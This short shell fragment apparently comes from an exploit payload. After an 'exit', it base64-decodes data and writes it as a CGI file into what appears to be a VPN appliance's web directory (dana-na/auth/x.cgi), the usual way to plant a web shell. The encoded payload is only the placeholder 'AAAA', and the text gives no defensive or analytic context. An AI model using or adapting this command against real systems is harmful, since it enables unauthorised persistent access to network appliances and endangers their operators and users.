exit
echo AAAA | base64 -d > /home/webserver/htdocs/dana-na/auth/x.cgi
